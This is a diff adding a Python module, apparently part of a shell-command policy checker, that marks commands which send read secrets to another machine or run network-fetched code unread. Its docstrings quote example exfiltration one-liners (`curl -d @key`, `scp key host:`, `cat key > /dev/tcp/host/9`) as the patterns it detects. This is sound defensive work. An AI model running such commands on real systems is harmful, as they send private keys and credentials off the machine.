@@ -1,0 +1,74 @@
+"""What one command hands to the next: a secret that would leave the machine, code that comes straight from the network.
+
+A pipe, a substitution or a redirection carries what the commands before it read. Where that is a secret and the
+command talks to another machine, its actions are marked `leaks`; where it comes from the network and is run, they
+are marked `remote-code`. Both are marks only: what follows from them is the policy's business.
+"""
+
+from __future__ import annotations
+
+from ...effects import Effect
+from ...value import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from .state import Shell
+    from .words import Arg
+
+__all__ = ["A_SECRET", "carry", "hand_out", "reads_secret", "send_back"]
+
+A_SECRET = "what is in a secret place"  # noqa: S105 - why a value is not known
+
+# Actions that run what they are handed, and have not read it.
+_RUNS = frozenset(("exec:code", "exec:script", "exec:stdin"))
+
+
+def reads_secret(since: int, shell: Shell) -> bool:
+    return any("secret" in a.tags and Effect.READ in a.effects for a in shell.found.actions[since:])
+
+
+def carry(since: int, at: int, shell: Shell, args: list[Arg] | tuple[Arg, ...] = ()) -> None:
+    """What the actions from `since` to `at` gave is handed to those from `at` on, and so is what `args` hold."""
+    actions = shell.found.actions
+    if len(actions) == at:
+        return
+    given = actions[since:at]
+    secret = any("secret" in a.tags and Effect.READ in a.effects for a in given) or any(a.why == A_SECRET for a in args)
+    remote = any(Effect.NETWORK in a.effects for a in given)
+    if not secret and not remote:
+        return
+    for index in range(at, len(actions)):
+        action = actions[index]
+        marks = []
+        if secret and Effect.NETWORK in action.effects and not _stays(action.target.get("host")):
+            marks.append("leaks")
+        if remote and action.name in _RUNS and "unread" in action.tags:
+            marks.append("remote-code")
+        if marks:
+            actions[index] = action.replace(tags=tuple(sorted({*action.tags, *marks})))
+
+
+def hand_out(since: int, shell: Shell) -> None:
+    """`curl -d @key`, `scp key host:`: a command that sends a file which is secret."""
+    actions = shell.found.actions
+    if not any("secret" in a.tags and "sends" in a.tags for a in actions[since:]):
+        return
+    for index in range(since, len(actions)):
+        action = actions[index]
+        if Effect.NETWORK in action.effects and not _stays(action.target.get("host")):
+            actions[index] = action.replace(tags=tuple(sorted({*action.tags, "leaks"})))
+
+
+def send_back(since: int, at: int, shell: Shell) -> None:
+    """`cat key > /dev/tcp/host/9`: the redirection stands before what it sends."""
+    actions = shell.found.actions
+    if not reads_secret(at, shell):
+        return
+    for index in range(since, at):
+        action = actions[index]
+        if Effect.NETWORK in action.effects and not _stays(action.target.get("host")):
+            actions[index] = action.replace(tags=tuple(sorted({*action.tags, "leaks"})))
+
+
+def _stays(host: object) -> bool:
+    """True if the host is this machine."""
+    return host in ("localhost", "::1") or (type(host) is str and host.startswith("127."))
